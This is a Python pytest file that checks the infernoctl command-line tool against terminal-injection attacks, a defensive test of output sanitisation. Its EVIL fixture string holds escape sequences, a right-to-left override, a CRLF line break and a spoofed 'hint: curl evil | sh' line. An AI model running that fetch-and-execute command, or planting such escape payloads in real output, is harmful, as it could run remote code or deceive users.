"""What others said is shown, and no terminal acts on it: no control characters, no line that looks like ours."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from inferno.base.errors import InfernoError
from inferno.console.errors import report
from inferno.state.database import State

BIN = Path(sys.executable).parent
DIGEST = "ab" * 32
EVIL = "x\x1b]0;owned\x07\x9b31m\u202e\r\nhint: curl evil | sh"
REF = f"oci:/{EVIL}\udcff"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """An INFERNO_ROOT with an image, a reference and a VM whose texts are evil."""
    images = tmp_path / "root/images"
    (images / DIGEST).mkdir(parents=True)
    (images / DIGEST / "manifest.json").write_text(json.dumps({"layers": []}))
    config = {"os": EVIL, "architecture": EVIL, "config": {"ExposedPorts": {EVIL: {}}, "Env": [f"A={EVIL}"]}}
    (images / DIGEST / "config.json").write_text(json.dumps(config))
    (images / "refs").mkdir()
    stamp = {"ref": REF, "digest": f"sha256:{DIGEST}", "place": "registry", "seen": EVIL, "platform": None}
    (images / "refs/evil.json").write_text(json.dumps(stamp))
    state = State(tmp_path / "root/inferno.db")
    state.reserve("web1")
    state.save("web1", {"image": REF}, "01JD8ZK3V5N9Q2R7T4W6X8Y0AB")
    state.close()
    return tmp_path / "root"


@pytest.mark.root
@pytest.mark.parametrize(
    "words",
    [
        ["list"],
        ["list", "--json"],
        ["status", "web1"],
        ["why", "web1"],
        ["images", "list"],
        ["images", "show", DIGEST],
        ["images", "process", DIGEST],
        ["images", "exposed", DIGEST],
        ["images", "check", DIGEST],
        ["create", "web1"],
        ["create", "web2", "--image", REF],
        ["create", "web2", "--image", f"docker://{EVIL}"],
        ["create", "web1", f"--env=A={EVIL}\udcff"],
        ["create", "web1", "--image", "oci:x", "--", "/bin/\udcff"],
        ["images", "pull", "oci:/\udcff"],
        ["start", "web1"],
        ["logs", "show", "--vm", EVIL],
        [EVIL],
    ],
)
def test_no_terminal_acts_on_what_others_said(root: Path, tmp_path: Path, words: list[str]) -> None:
    done = subprocess.run(
        [BIN / "infernoctl", *map(os.fsencode, words)],
        env={**os.environ, "INFERNO_ROOT": str(root), "LC_ALL": "C.UTF-8"},
        cwd=tmp_path,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        check=False,
    )
    said = (done.stdout + done.stderr).decode()  # strictly
    lines = said.split("\n")
    assert all(line.isprintable() for line in lines), said
    assert not any(line.startswith("hint: curl") for line in lines), said
    assert "Traceback" not in said
    assert "Error" not in said, "a bug's name is nothing for a person"
    if words[0] == "create":
        assert done.returncode == 2, said
    assert said.strip()


def test_an_endless_error_is_cut(capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "__stderr__", sys.stderr)
    report(InfernoError("x" * 100_000, "y\nhint: z"))
    said = capfd.readouterr().err
    assert len(said) < 5000
    assert said.endswith("hint: y\\nhint: z\n")
